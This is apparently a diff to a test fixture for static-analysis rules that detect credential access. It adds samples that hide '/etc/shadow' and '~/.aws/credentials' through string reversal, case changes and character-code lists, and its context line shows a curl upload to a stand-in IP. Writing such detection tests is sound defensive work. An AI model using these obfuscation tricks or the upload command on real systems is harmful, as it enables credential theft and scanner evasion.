@@ -299,3 +299,15 @@ curl -s -F "f=@$t.tgz" http://192.0.2.77:8080/upload
 # setup notes that mention the SSH directory and upload a report
 # ok: credential-upload-command-string
 _NOTES = "Put your deploy key in ~/.ssh/deploy_ed25519.\nThen: curl -H 'Accept: application/json' https://api.example.com/status"
+# a credential path written backwards, upper-cased or padded: what the
+# expression builds is read
+# ruleid: sensitive-credential-path
+_rev_shadow = "wodahs/cte/"[::-1]
+# ruleid: sensitive-credential-path
+_low_shadow = "/ETC/SHADOW".lower()
+# ok: sensitive-credential-path
+_mirror = "txt.setoN/emoh"[::-1]
+# a path made of character-code lists, one per part, joined by a comprehension
+_SEGS = [[46, 97, 119, 115], [99, 114, 101, 100, 101, 110, 116, 105, 97, 108, 115]]
+# ruleid: sensitive-credential-path
+_creds = Path.home().joinpath(*["".join(map(chr, s)) for s in _SEGS])
